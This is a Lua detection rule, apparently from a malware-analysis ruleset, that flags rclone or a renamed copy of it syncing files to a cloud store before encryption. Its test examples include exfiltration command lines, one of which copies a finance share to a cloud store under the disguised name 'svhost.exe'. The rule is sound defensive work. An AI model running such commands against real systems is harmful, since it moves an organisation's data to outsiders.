-- Files copied to a store in the cloud with the tool rclone, whatever it is called.

local command = require "kaiseki.detect.command"
local lineage = require "kaiseki.detect.lineage"
local trusted = require "kaiseki.detect.trusted"

-- Options that are rclone's own.
local OPTIONS = { "--config", "--transfers", "--multi%-thread%-streams", "--max%-age", "--no%-check%-certificate",
                  "--ignore%-existing", "--auto%-confirm", "--drive%-", "--bwlimit", "--progress" }

-- The store that a command copies to: a name of its configuration, which is longer than a drive's letter.
local function store_of(each)
    if not each:says("copy", "sync", "move", "copyto") then return nil end
    for i = 3, #each.words do
        local store = each.words[i]:match "^([%w_-][%w_-]+):[^\\]*$"
        if store and not each.words[i]:find("://", 1, true) then return store end
    end
    return nil
end

local function has_option(each)
    for _, option in ipairs(OPTIONS) do
        if each.folded:find("%s%-" .. option:sub(2)) then return true end
    end
    return false
end

local function copied_to(each)
    local store = store_of(each)
    return store and (each.program == "rclone" or has_option(each)) and store or nil
end

local function is_renamed(event)
    return command.first(event.child.command_line, function(each)
        return copied_to(each) and each.program ~= "rclone" or nil
    end) ~= nil
end


local function example(line)
    return { operation = "Process Create", result = "SUCCESS", path = [[C:\PerfLogs\a.exe]],
             ["process.name"] = "cmd.exe", ["child.command_line"] = line }
end

rule {
    id = "exfiltration.cloud-copy",
    title = "Files copied to a cloud store",
    severity = "high",
    attack = { "T1567.002" },
    description = "rclone, or a program under another name that takes its arguments, copies files to a store of its "
        .. "configuration, as is done before encryption.",
    references = { "https://attack.mitre.org/techniques/T1567/002/" },
    false_positives = { "Users and administrators who back up with rclone, under its own name." },
    author = "kaiseki",
    match = operation:is "Process Create" & result:is "SUCCESS"
        & child.command_line:contains { "copy", "sync", "move" } & child.command_line:contains ":"
        & child.command_line:contains { "rclone", "--" },
    on_event = function(event, case)
        local store = command.first(event.child.command_line, copied_to)
        if not store then return end
        case:finding { process = lineage.requester(event.process), key = store, event = event }
    end,
    -- Who calls such a tool by its own name, and is none of the sample's tree, may well back up.
    excuse = function(finding, case)
        for _, event in ipairs(finding.events) do
            if is_renamed(event) then return nil end
        end
        if lineage.in_tree(finding.process) then return nil end
        return trusted.is_bystander(case, finding.process) and "low" or "medium"
    end,
    finding = function(finding)
        return { "copy-to-cloud", command = finding.events[1].child.command_line }
    end,
    examples = {
        match = {
            example [[rclone.exe copy C:\Shares mega:data]],
            example [[svhost.exe copy \\FS02\finance box:data --config C:\PerfLogs\r.conf --transfers 16]],
        },
        no_match = {
            example [[rclone.exe lsd mega:]], example [[robocopy C:\a D:\b /MIR]],
            example [[git.exe push origin main:main --progress]],
        },
    },
}
